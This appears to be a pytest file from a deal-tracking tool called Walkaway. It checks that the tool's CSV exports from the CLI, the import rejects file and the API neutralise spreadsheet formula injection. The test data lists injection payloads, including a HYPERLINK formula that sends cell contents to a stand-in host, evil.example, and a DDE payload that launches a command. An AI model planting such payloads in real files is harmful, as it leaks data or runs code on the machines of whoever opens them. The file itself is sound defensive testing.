"""CSV outputs open safely in a spreadsheet: no cell is run as a formula (CSV injection).

Checked where Walkaway writes CSV: ``walkaway deals`` and ``walkaway review`` with
``--format csv``, the rejects file of ``walkaway import --skip-invalid``, and the API's
``GET /api/review?format=csv`` (the board's "Download CSV").
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from typer.testing import CliRunner

from tests.csvfiles import deals_csv
from walkaway.cli import app
from walkaway.reporting.spreadsheet import csv_text, spreadsheet_safe

RUNS = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
EVIL = [
    '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '"\t=1+1"',
    "=cmd|' /C calc'!A0",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    running = [c for c in cells(text) if RUNS.match(c) and not PLAIN_NUMBER.match(c)]
    assert not running, running


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1200", "-1200"),
        ("+49.5", "+49.5"),
        ("Acme = good", "Acme = good"),
        (None, None),
    ],
)
def test_a_text_cell_that_would_run_is_quoted(cell: str | None, written: str | None) -> None:
    schema = {"name": pl.String, "amount": pl.Float64}
    frame = pl.DataFrame({"name": [cell], "amount": [-5.0]}, schema=schema)
    safe = spreadsheet_safe(frame)
    assert safe["name"][0] == written and safe["amount"][0] == -5.0


def _store(tmp_path: Path) -> str:
    rows = [f"E-{n},{name},Acme,Ana,Proposal,1000,2026-01-05,,open" for n, name in enumerate(EVIL)]
    path = deals_csv(tmp_path, rows)
    url = f"sqlite:///{tmp_path / 'evil.db'}"
    done = CliRunner().invoke(app, ["import", str(path), "--db", url])
    assert done.exit_code == 0, done.output
    return url


def test_the_cli_csv_outputs_run_no_formula(tmp_path: Path) -> None:
    url = _store(tmp_path)
    deals = CliRunner().invoke(app, ["deals", "--format", "csv", "--db", url])
    review = CliRunner().invoke(
        app, ["review", "--format", "csv", "--as-of", "2026-03-01", "--db", url]
    )
    for result in (deals, review):
        assert result.exit_code == 0, result.output
        assert_no_formula(result.stdout)
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells(result.stdout)


def test_the_rejects_file_runs_no_formula(tmp_path: Path) -> None:
    rows = [f"R-{n},{name},Acme,{name},Proposal,lots,2026-01-05,,open" for n, name in
            enumerate(EVIL)]  # fmt: skip
    path = deals_csv(tmp_path, rows)
    rejects = tmp_path / "rejects.csv"
    url = f"sqlite:///{tmp_path / 'r.db'}"
    done = CliRunner().invoke(
        app, ["import", str(path), "--skip-invalid", "--rejects", str(rejects), "--db", url]
    )
    assert done.exit_code == 0, done.output
    text = rejects.read_text(encoding="utf-8")
    assert_no_formula(text)
    assert "'+1+1" in cells(text)


def test_the_api_csv_export_runs_no_formula(tmp_path: Path) -> None:
    from tests.web.conftest import make_client, web_settings

    url = _store(tmp_path)
    with make_client(web_settings(url, as_of=None)) as client:
        answer: Any = client.get("/api/review", params={"as_of": "2026-03-01", "format": "csv"})
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        assert_no_formula(answer.text)
        assert len(cells(answer.text)) > len(EVIL)
        board = client.get("/", params={"as_of": "2026-03-01"}).text
        assert "format=csv" in board
    assert csv_text(pl.DataFrame({"a": ["=1"]})) == "a\n'=1\n"
